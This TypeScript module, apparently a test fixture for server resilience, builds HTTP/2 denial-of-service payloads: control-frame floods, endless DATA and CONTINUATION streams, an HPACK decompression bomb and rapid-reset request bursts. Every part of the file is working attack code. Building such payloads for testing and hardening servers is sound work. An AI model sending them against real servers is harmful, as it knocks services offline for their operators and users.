// HTTP/2 floods: frames that cost a client little and a server, if it is careless, much.
import { endHeaders, endStream, frame, frameType, headerBlock } from './http2-frames.ts';

/** Many small frames in one write. */
export const many = (one: Buffer) =>
  Buffer.concat(Array<Buffer>(Math.floor((64 * 1024) / one.length)).fill(one));

/** Frames of the connection, which are sent again and again. */
export const connectionFloods: Readonly<Record<string, Buffer>> = {
  'PING frames': many(frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  'SETTINGS frames': many(frame(frameType.settings, 0, 0)),
  'PRIORITY frames': many(frame(frameType.priority, 0, 3, Buffer.from([0, 0, 0, 0, 1]))),
  'WINDOW_UPDATE frames': many(frame(frameType.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1]))),
  'frames of unknown types': many(frame(0x5a, 0, 0)),
  'RST_STREAM frames of unopened streams': many(frame(frameType.reset, 0, 1, Buffer.alloc(4))),
};

/** A request that never ends, and empty DATA frames for it. */
export const emptyData = (path: string, authorization: string) =>
  Buffer.concat([
    frame(frameType.headers, endHeaders, 1, headerBlock(path, { authorization })),
    many(frame(frameType.data, 0, 1)),
  ]);

/** The headers of a request without their end, and a frame that continues them. */
export function endlessHeaders(path: string): { start: Buffer; more: Buffer } {
  const field = Buffer.concat([
    Buffer.from([0x00, 1]),
    Buffer.from('x'),
    Buffer.from([100]),
    Buffer.alloc(100, 'y'),
  ]);
  return {
    start: frame(frameType.headers, 0, 1, headerBlock(path)),
    more: frame(frameType.continuation, 0, 1, Buffer.concat(Array<Buffer>(100).fill(field))),
  };
}

/** A request whose headers are 5 KB on the wire and 3.5 MB after HPACK decompression. */
export function hpackBomb(path: string, stream = 1): Buffer {
  // One header of 4,000 bytes enters the HPACK table, and is then referenced by a single byte repeatedly.
  const large = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from('x'),
    Buffer.from([0x7f, 0xbd, 0x1d]),
    Buffer.alloc(3_900, 'y'),
  ]);
  const block = Buffer.concat([headerBlock(path), large, Buffer.alloc(900, 0xbe)]);
  return frame(frameType.headers, endHeaders | endStream, stream, block);
}

/** Requests that are reset at once (rapid reset), with the streams from `first` on. */
export function rapidResets(
  path: string,
  authorization: string,
  first: number,
  count: number,
  headers: Readonly<Record<string, string>> = {},
): Buffer {
  const block = headerBlock(path, { authorization, ...headers });
  return Buffer.concat(
    Array.from({ length: count }, (_, index) => {
      const stream = first + 2 * index;
      return [
        frame(frameType.headers, endHeaders | endStream, stream, block),
        frame(frameType.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
      ];
    }).flat(),
  );
}
